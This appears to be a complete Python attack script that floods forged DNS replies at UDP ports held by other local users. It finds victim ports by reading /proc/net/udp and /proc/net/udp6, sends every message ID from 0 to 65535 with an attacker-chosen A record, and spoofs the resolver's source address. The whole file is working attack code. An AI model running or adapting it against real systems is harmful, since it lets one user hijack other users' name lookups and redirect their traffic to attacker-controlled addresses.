#!/usr/bin/python3
"""Forged answers for one name, sent to every UDP port another user holds.

usage: forge-dns.py --name NAME [--address 6.6.6.6] [--seconds S]
                    [--exclude PORT,PORT...] [--sources 127.53.0.1,127.0.0.1]
Until S seconds (5) have passed it reads /proc/net/udp and /proc/net/udp6 again
and again, and sends to each port found (not its own sockets, not port 53,
not the excluded ones) one answer per message ID, 0 to 65535: the name's
question, QR and RA set, one A record with ADDRESS. Each sweep goes out from
each source address in turn (the resolver's address first: the best an
unprivileged user can do, since it cannot bind port 53). Prints the ports
found and how many datagrams went out.
"""
import argparse
import os
import socket
import struct
import sys
import time


def question(name, qtype=1):
    out = b""
    for label in name.strip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0" + struct.pack(">HH", qtype, 1)


def answer_tail(name, address):
    # Header after the ID: QR|RD|RA, NOERROR, one question, one answer.
    header = struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0)
    record = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 300, 4) + socket.inet_aton(address)
    return header + question(name) + record


def ports_held_by_others(exclude):
    mine = os.getuid()
    found = set()
    for path, v6 in (("/proc/net/udp", False), ("/proc/net/udp6", True)):
        try:
            with open(path) as table:
                lines = table.read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if len(fields) < 8:
                continue
            local = fields[1]
            port = int(local.rsplit(":", 1)[1], 16)
            uid = int(fields[7])
            if uid == mine or port == 53 or port in exclude:
                continue
            found.add((port, v6))
    return found


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--name", required=True)
    parser.add_argument("--address", default="6.6.6.6")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--exclude", default="")
    parser.add_argument("--sources", default="127.53.0.1,127.0.0.1")
    args = parser.parse_args()
    exclude = {int(p) for p in args.exclude.split(",") if p}
    tail = answer_tail(args.name, args.address)
    packets = [struct.pack(">H", i) + tail for i in range(65536)]
    senders = []
    for source in args.sources.split(","):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((source, 0))
        senders.append(s)
    s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s6.bind(("::1", 0))
    deadline = time.monotonic() + args.seconds
    sent = 0
    seen = set()
    while time.monotonic() < deadline:
        targets = ports_held_by_others(exclude)
        seen |= targets
        if not targets:
            time.sleep(0.01)
            continue
        for sender in senders:
            for port, v6 in sorted(targets):
                sock, host = (s6, "::1") if v6 else (sender, "127.0.0.1")
                for packet in packets:
                    try:
                        sock.sendto(packet, (host, port))
                        sent += 1
                    except OSError:
                        pass
                if time.monotonic() >= deadline:
                    break
            if time.monotonic() >= deadline:
                break
    print("ports %s; %d datagrams" % (",".join(str(p) for p, _ in sorted(seen)) or "none", sent), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
